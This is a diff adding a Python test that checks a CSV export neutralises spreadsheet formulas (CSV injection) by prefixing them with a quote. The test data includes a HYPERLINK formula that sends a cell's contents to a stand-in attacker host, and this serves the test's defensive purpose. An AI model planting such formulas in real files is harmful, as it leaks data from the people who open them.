@@ -839,3 +839,23 @@ def test_unknown_tokens_and_cost_print_as_a_dash(tmp_path):
 
 def hexid_of(n: int) -> str:
     return n.to_bytes(16, "big").hex()
+
+
+def test_export_csv_cells_a_spreadsheet_would_run_as_formulas_open_inert(tmp_path):
+    """A prompt is anyone's text: ``=HYPERLINK(...)`` in a CSV cell is a live formula once the file
+    is opened in a spreadsheet (OWASP CSV injection); it is written with a leading ``'``."""
+    from tests.storage_helpers import batch, llm, make_exporter, span
+
+    path = tmp_path / "formula.db"
+    exporter = make_exporter({"type": "sqlite", "path": str(path)})
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    exporter.export(batch(span(1, 1, genai=llm(prompt=formula, answer="@SUM(A1:A9)")),
+                          span(2, 2, genai=llm(prompt="plain question"))))
+    exporter.shutdown()
+    proc = run("export", "--format", "csv", "--db", str(path))
+    assert proc.returncode == 0, proc.stderr
+    rows = {r["trace_id"][-1]: r for r in csv.DictReader(io.StringIO(proc.stdout))}
+    assert rows["1"]["prompt_preview"] == "'" + formula
+    assert rows["1"]["response_preview"] == "'@SUM(A1:A9)"
+    assert rows["2"]["prompt_preview"] == "plain question"
+    assert float(rows["1"]["cost"]) == 0.01  # numbers stay numbers
